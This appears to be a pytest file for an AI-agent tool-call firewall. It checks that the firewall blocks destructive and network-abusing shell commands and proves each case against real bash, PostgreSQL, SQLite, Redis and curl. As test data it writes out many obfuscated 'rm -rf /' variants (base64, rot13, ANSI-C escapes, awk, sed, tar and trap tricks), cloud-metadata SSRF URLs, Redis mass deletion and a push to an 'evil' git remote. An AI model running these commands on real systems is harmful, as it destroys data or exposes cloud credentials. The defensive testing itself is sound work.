"""The shell as a hub, proven against the real programs: bash (with a harmless stand-in for rm), PostgreSQL, SQLite.

Each proof runs the command for real in a temporary directory with an ``rm`` on the PATH
that only logs its arguments, and checks that what bash executed is what the analyzer
said it would execute. SQL proofs run the real ``psql`` and ``sqlite3`` clients and check
the database did what the SQL analyzer's finding claims (or left the data alone).
"""

from __future__ import annotations

import os
import subprocess
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from agentgate._call import ToolCall
from agentgate._decision import Effect, Finding
from agentgate.analyzers.base import AnalyzerSettings, make_context
from agentgate.analyzers.classify import classify
from agentgate.analyzers.shell import analyze_shell, parse
from conftest import require_program

SETTINGS = AnalyzerSettings(resolver=lambda host, timeout: ["93.184.216.34"])


def _run(cmd: str, tool: str = "bash", settings: AnalyzerSettings = SETTINGS, **args: Any) -> list[Finding]:
    call = ToolCall(tool, args or {"command": cmd})
    return list(analyze_shell(call, make_context(call, settings=settings)))


def _blocks(findings: list[Finding], rule: str) -> bool:
    return any(f.rule_id == rule and f.effect is Effect.BLOCK for f in findings)


@pytest.fixture
def shim(tmp_path: Path) -> tuple[Path, dict[str, str]]:
    """A cwd and an environment whose ``rm`` only appends its arguments to rm.log."""
    bindir = tmp_path / "bin"
    bindir.mkdir()
    log = tmp_path / "rm.log"
    (bindir / "rm").write_text(f'#!/bin/sh\necho "rm $*" >> {log}\n')
    (bindir / "rm").chmod(0o755)
    env = {**os.environ, "PATH": f"{bindir}:{os.environ['PATH']}", "HOME": str(tmp_path)}
    work = tmp_path / "work"
    work.mkdir()
    return work, env


# Commands whose real execution runs "rm -rf /" although no word of the source reads so.
HIDDEN_RM = [
    "echo 'rm -rf /' > a.sh; bash a.sh",  # a staged script
    "printf 'rm -rf /\\n' > b.sh && chmod +x b.sh && ./b.sh",  # staged and run by path
    "cat > c.sh <<'EOF'\nrm -rf /\nEOF\nsh c.sh",  # a here-document script
    "echo cm0gLXJmIC8K | base64 -d | sh",  # | base64 -d | sh
    "echo cm0gLXJmIC8K | base64 -d > d.sh; sh d.sh",  # decoded to a file, then run
    "echo ez -es / | tr a-z n-za-m | sh",  # | tr ... | sh (rot13)
    "r\\\nm -rf /",  # a line continuation inside the command name
    "$'\\x72\\x6d' -rf /",  # ANSI-C escapes
    "echo hi # a comment ends at the newline \\\nrm -rf /",  # a backslash does not continue a comment
    "echo / | xargs rm -rf",  # xargs appends the piped words
    "awk 'BEGIN {system(\"rm -rf /\")}'",  # awk system()
    "sed -n '1e rm -rf /' /etc/hostname",  # GNU sed e
    "tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec='rm -rf /'",  # tar checkpoint action
    "trap 'rm -rf /' EXIT; true",  # a trap
]


@pytest.mark.parametrize("cmd", HIDDEN_RM)
def test_hidden_rm_is_what_bash_runs(cmd: str, shim: tuple[Path, dict[str, str]]) -> None:
    """bash really runs rm -rf / for each of these (proven with a logging stand-in), and the analyzer blocks it."""
    work, env = shim
    subprocess.run(["bash", "-c", cmd], cwd=work, env=env, timeout=20, capture_output=True, check=False)
    log = (work.parent / "rm.log").read_text() if (work.parent / "rm.log").exists() else ""
    assert "rm -rf /" in log, f"bash did not run rm -rf / for {cmd!r}: {log!r}"
    findings = _run(cmd)
    assert any(f.effect is Effect.BLOCK for f in findings), [f.to_dict() for f in findings]


LOOK_ALIKES = [
    "echo 'ls -la' > a.sh; bash a.sh",
    "echo 'rm -rf /' > notes.txt; cat notes.txt",  # written, never run
    "echo 'uptime' | sh",
    "echo hi | tr a-z A-Z > out.txt; cat out.txt",
    "awk -F: '{print $1}' /etc/passwd > users.txt",
]


@pytest.mark.parametrize("cmd", LOOK_ALIKES)
def test_look_alikes_do_not_run_rm_and_pass(cmd: str, shim: tuple[Path, dict[str, str]]) -> None:
    """The benign look-alikes run no rm under bash, and the analyzer does not block them."""
    work, env = shim
    subprocess.run(["bash", "-c", cmd], cwd=work, env=env, timeout=20, capture_output=True, check=False)
    assert not (work.parent / "rm.log").exists()
    findings = [f for f in _run(cmd) if f.rule_id != "shell.sensitive"]
    assert not any(f.effect is Effect.BLOCK for f in findings), [f.to_dict() for f in findings]


def test_pipeline_redirect_belongs_to_the_last_stage(shim: tuple[Path, dict[str, str]]) -> None:
    """``a | b > f``: bash writes b's output to f; the parse puts the redirection on b."""
    work, env = shim
    subprocess.run(["bash", "-c", "echo hi | tr a-z A-Z > out.txt"], cwd=work, env=env, timeout=20, check=True)
    assert (work / "out.txt").read_text() == "HI\n"
    script, how = parse("echo hi | tr a-z A-Z > out.txt")
    assert how == "tree-sitter"
    assert [len(c.redirects) for c in script[0]] == [0, 1]


# ------------------------------------------------------------------ SQL, for real


@pytest.fixture
def pg(postgres_url: str) -> Iterator[tuple[list[str], str]]:
    """psql argv for the shared local PostgreSQL and a fresh schema holding users(3 rows)."""
    require_program("psql")
    base = ["psql", "-h", "127.0.0.1", "-U", "postgres", "-d", "test", "-v", "ON_ERROR_STOP=1", "-qtA"]
    schema = f"ag_shell_{uuid.uuid4().hex[:10]}"
    setup = (
        f"CREATE SCHEMA {schema}; CREATE TABLE {schema}.users(id int); INSERT INTO {schema}.users VALUES (1),(2),(3)"
    )
    subprocess.run([*base, "-c", setup], capture_output=True, timeout=20, check=True)
    yield base, schema
    subprocess.run(
        [*base, "-c", f"DROP SCHEMA IF EXISTS {schema} CASCADE"], capture_output=True, timeout=20, check=False
    )


def _pg_count(base: list[str], schema: str) -> str:
    sql = f"SELECT count(*) FROM pg_tables WHERE schemaname = '{schema}' AND tablename = 'users'"
    return subprocess.run([*base, "-c", sql], capture_output=True, text=True, timeout=20, check=True).stdout.strip()


def test_psql_drop_is_routed_and_real(pg: tuple[list[str], str]) -> None:
    """psql -c 'DROP TABLE …' is sql.drop, and the real psql drops the table."""
    base, schema = pg
    cmd = f"psql -h 127.0.0.1 -U postgres -d test -c 'DROP TABLE {schema}.users'"
    assert _blocks(_run(cmd), "sql.drop")
    subprocess.run(["bash", "-c", cmd], capture_output=True, timeout=20, check=True)
    assert _pg_count(base, schema) == "0"


def test_psql_heredoc_is_routed_and_real(pg: tuple[list[str], str]) -> None:
    """SQL in a here-document on psql's stdin is analyzed; the real psql runs it."""
    base, schema = pg
    cmd = f"psql -h 127.0.0.1 -U postgres -d test <<'SQL'\nDROP TABLE {schema}.users;\nSQL"
    assert _blocks(_run(cmd), "sql.drop")
    subprocess.run(["bash", "-c", cmd], capture_output=True, timeout=20, check=True)
    assert _pg_count(base, schema) == "0"


def test_psql_read_passes_and_leaves_data(pg: tuple[list[str], str]) -> None:
    """The benign look-alike: a bounded SELECT through psql passes and changes nothing."""
    base, schema = pg
    cmd = f"psql -h 127.0.0.1 -U postgres -d test -c 'SELECT count(*) FROM {schema}.users WHERE id = 2'"
    assert not any(f.effect is Effect.BLOCK for f in _run(cmd))
    subprocess.run(["bash", "-c", cmd], capture_output=True, timeout=20, check=True)
    assert _pg_count(base, schema) == "1"


def test_sqlite_delete_all_is_routed_and_real(tmp_path: Path) -> None:
    """sqlite3 db 'DELETE FROM t' is sql.delete_all, and the real sqlite3 empties the table."""
    require_program("sqlite3")
    db = tmp_path / "app.db"
    subprocess.run(["sqlite3", str(db), "CREATE TABLE s(id); INSERT INTO s VALUES (1),(2);"], check=True, timeout=20)
    cmd = f"sqlite3 {db} 'DELETE FROM s'"
    assert _blocks(_run(cmd), "sql.delete_all")
    subprocess.run(["bash", "-c", cmd], check=True, timeout=20)
    out = subprocess.run(["sqlite3", str(db), "SELECT count(*) FROM s"], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "0"
    bounded = f"sqlite3 {db} 'DELETE FROM s WHERE id = 1'"
    assert not _blocks(_run(bounded), "sql.delete_all")


# ------------------------------------------------------------------ routing contract


def test_routed_urls_are_judged_per_call_not_cached() -> None:
    """The same command is re-judged when DNS answers change: routed verdicts are never cached."""
    cmd = "curl -s https://files.example.org/report.csv"
    assert _run(cmd) == []
    rebinding = AnalyzerSettings(resolver=lambda host, timeout: ["169.254.169.254"])
    assert _blocks(_run(cmd, settings=rebinding), "http.dns_private") or any(
        f.rule_id.startswith("http.") and f.effect is Effect.BLOCK for f in _run(cmd, settings=rebinding)
    )


def test_sniffed_commands_are_not_routed() -> None:
    """A command quoted in a note is text: its SQL and URLs are not handed to other analyzers."""
    assert (
        _run("", tool="save_note", text="Ran psql -c 'DROP TABLE users' yesterday, see curl http://169.254.169.254/")
        == []
    )


def test_metadata_through_a_proxy_option_and_ssh_jump() -> None:
    """Hosts in option values (curl -x, ssh -J) are destinations too."""
    assert _blocks(_run("curl -x http://169.254.169.254:80 https://example.com/"), "http.metadata")
    assert _blocks(_run("ssh -J 169.254.169.254 deploy@app.example.com"), "http.metadata")


# ------------------------------------------------------------------ dedicated tools


@pytest.mark.parametrize(
    ("tool", "args", "rule"),
    [
        ("kubectl", {"args": "delete namespace payments"}, "shell.infra_destroy"),
        (
            "aws_cli",
            {"service": "s3", "operation": "rb", "params": {"bucket": "s3://x", "force": True}},
            "shell.infra_destroy",
        ),
        (
            "aws_cli",
            {"service": "ec2", "operation": "TerminateInstances", "params": {"InstanceIds": ["i-1"]}},
            "shell.infra_destroy",
        ),
        ("run_terraform", {"command": "destroy", "args": ["-auto-approve"], "workdir": "infra"}, "shell.infra_destroy"),
        ("git_push", {"remote": "origin", "branch": "main", "force": True}, "shell.history_rewrite"),
        ("helm", {"args": ["uninstall", "payments", "-n", "production"]}, "shell.infra_destroy"),
        (
            "kubectl_apply",
            {"namespace": "default", "manifest": "kind: Pod\nspec:\n  hostPID: true\n"},
            "shell.privilege",
        ),
    ],
)
def test_dedicated_infra_tools(tool: str, args: dict[str, Any], rule: str) -> None:
    """A dedicated CLI tool is judged as the command line it runs."""
    assert _blocks(_run("", tool=tool, **args), rule)


@pytest.mark.parametrize(
    ("tool", "args"),
    [
        ("kubectl", {"args": "get pods -n staging"}),
        ("kubectl", {"args": ["scale", "deployment/web", "--replicas=3", "-n", "staging"]}),
        ("run_terraform", {"command": "plan", "workdir": "infra"}),
        ("aws_cli", {"service": "s3", "operation": "ls", "params": {}}),
        ("git_push", {"remote": "origin", "branch": "feature/x", "force": False}),
        ("kubectl_apply", {"namespace": "staging", "manifest": "kind: Deployment\nspec:\n  replicas: 2\n"}),
    ],
)
def test_dedicated_infra_tools_benign(tool: str, args: dict[str, Any]) -> None:
    """Reads, plans, scaling and feature-branch pushes through dedicated tools pass."""
    assert not any(f.effect is Effect.BLOCK for f in _run("", tool=tool, **args))


def test_dedicated_tool_command_line() -> None:
    """aws_cli{service, operation, params} becomes ``aws <service> <operation> --param value``."""
    c = classify(ToolCall("aws_cli", {"service": "s3", "operation": "DeleteBucket", "params": {"Bucket": "b"}}))
    assert [t.value for t in c.targets["shell"]] == ["aws s3 delete-bucket --bucket b"]


def test_infra_resources_are_not_paths() -> None:
    """Resource operands are resources of their kind: a namespace pattern constrains namespaces, not files."""
    scope = {
        "allowed_operations": ["read", "write", "execute"],
        "allowed_resources": ["namespace:staging", "reports/**"],
    }
    from agentgate.policy import EffectivePolicy, make_scope

    policy = EffectivePolicy((make_scope(**scope),))
    for cmd, blocked in (
        ("kubectl describe deployment/web -n staging", False),
        ("kubectl describe deployment/web -n prod", True),
    ):
        call = ToolCall("bash", {"command": cmd})
        fs = analyze_shell(call, make_context(call, policy=policy, settings=SETTINGS))
        assert any(f.effect is Effect.BLOCK for f in fs) is blocked, (cmd, [f.to_dict() for f in fs])


@pytest.mark.parametrize(
    "cmd",
    [
        "echo " + "$(" * 400 + "x" + ")" * 400,  # nested substitutions
        "(" * 3000 + "ls" + ")" * 3000,  # nested arithmetic/subshells past the recursion limit
        " | ".join(["cat x"] * 3000),  # more commands than the budget
        "echo " + "a " * 20000,  # more words than the budget
    ],
)
def test_adversarial_size_and_nesting_escalate(cmd: str) -> None:
    """Deep nesting and oversized commands are not analyzed to the end: they escalate, never allow or crash."""
    findings = _run(cmd)
    assert any(f.rule_id == "shell.unparsable" and f.effect is Effect.ESCALATE for f in findings)


# ------------------------------------------------------------------ mass deletion by enumeration, on real Redis


def test_redis_scan_into_xargs_del_really_empties_the_pattern(redis_url: str) -> None:
    """The blocked pipeline does delete every key of the pattern on a real Redis; the ttl look-alike deletes none."""
    require_program("redis-cli")
    prefix = f"agentgate-test-{uuid.uuid4().hex}"
    keys = [f"{prefix}:session:{i}" for i in range(5)]
    subprocess.run(["redis-cli", "-u", redis_url, "mset", *(x for k in keys for x in (k, "v"))], check=True, timeout=30)
    count = ["redis-cli", "-u", redis_url, "--scan", "--pattern", f"{prefix}:*"]
    benign = f"redis-cli -u {redis_url} --scan --pattern '{prefix}:session:*' | xargs redis-cli -u {redis_url} ttl"
    attack = f"redis-cli -u {redis_url} --scan --pattern '{prefix}:session:*' | xargs redis-cli -u {redis_url} del"
    try:
        assert _run(benign) == []
        subprocess.run(["bash", "-c", benign], check=True, capture_output=True, timeout=30)
        assert len(subprocess.run(count, capture_output=True, text=True, timeout=30).stdout.split()) == 5
        assert _blocks(_run(attack), "shell.destructive")
        subprocess.run(["bash", "-c", attack], check=True, capture_output=True, timeout=30)
        assert subprocess.run(count, capture_output=True, text=True, timeout=30).stdout.split() == []
    finally:
        subprocess.run(["redis-cli", "-u", redis_url, "del", *keys], capture_output=True, timeout=30)


# ------------------------------------------------------------------ redirects: curl without -L does not follow


def test_curl_follows_a_redirect_only_with_location(tmp_path: Path) -> None:
    """Real curl against a local redirector: only -L fetches the hop, so only -L carries the metadata-in-query rule."""
    import http.server
    import threading

    hits: list[str] = []

    class Redirector(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(302 if self.path.startswith("/redirect") else 200)
            self.send_header("Location", "/hop")
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *args: Any) -> None:
            pass

    require_program("curl")
    server = http.server.HTTPServer(("127.0.0.1", 0), Redirector)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        url = f"http://127.0.0.1:{server.server_port}/redirect?url=http://169.254.169.254/latest"
        subprocess.run(["curl", "-s", "-o", "/dev/null", url], check=True, timeout=30)
        assert hits == ["/redirect?url=http://169.254.169.254/latest"]
        subprocess.run(["curl", "-sL", "-o", "/dev/null", url], check=True, timeout=30)
        assert hits[-1] == "/hop"
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
    public = "https://go.example.com/redirect?url=http://169.254.169.254/latest/meta-data/"
    assert not any(f.rule_id == "http.metadata" for f in _run(f"curl -s '{public}'"))
    assert _blocks(_run(f"curl -fsSL '{public}'"), "http.metadata")
    assert _blocks(_run(f"wget -qO- '{public}'"), "http.metadata")  # wget follows by default
    assert _blocks(_run("curl -s 'http://169.254.169.254/latest/meta-data/?x=1'"), "http.metadata")


@pytest.mark.parametrize(
    ("allowed", "command", "action"),
    [
        ("git:git@github.com:acme/*", "git push git@github.com:acme/api.git feature/login", "allow"),
        ("git:git@github.com:contrib/*", "git push git@github.com:acme/api.git feature/login", "block"),
        ("git:origin", "git push origin feature/login", "allow"),
        ("git:upstream", "git push origin feature/login", "block"),
        # A branch named like an allowed remote does not make the push allowed.
        ("git:main", "git push git@github.com:evil/x.git main", "block"),
    ],
)
def test_git_push_scope_names_the_remote_not_the_branch(allowed: str, command: str, action: str) -> None:
    """``git:`` patterns name remotes (docs/policy.md): the remote decides, the branch never does."""
    import agentgate
    from agentgate import Firewall
    from agentgate.policy._config import Config

    fw = Firewall(Config.model_validate({}), audit=None)
    with agentgate.scope(task="push", allowed_operations=["write"], allowed_resources=[allowed]):
        v = fw.evaluate(ToolCall("run_shell", {"command": command}))
    assert v.action.value == action, v.reasoning


@pytest.mark.parametrize("key", ["remote", "remote_url", "git_url"])
def test_git_push_tool_is_decided_by_its_remote_argument(key: str) -> None:
    """A dedicated ``git_push`` tool's remote, under any of the git resource's names, is the remote pushed to."""
    import agentgate
    from agentgate import Firewall
    from agentgate.policy._config import Config

    fw = Firewall(Config.model_validate({}), audit=None)
    call = {key: "git@github.com:acme/api.git", "branch": "feature/search"}
    for allowed, action in (("git:git@github.com:acme/*", "allow"), ("git:git@github.com:other/*", "block")):
        with agentgate.scope(task="push", allowed_operations=["write"], allowed_resources=[allowed]):
            v = fw.evaluate(ToolCall("git_push", call))
        assert v.action.value == action, (allowed, v.reasoning)
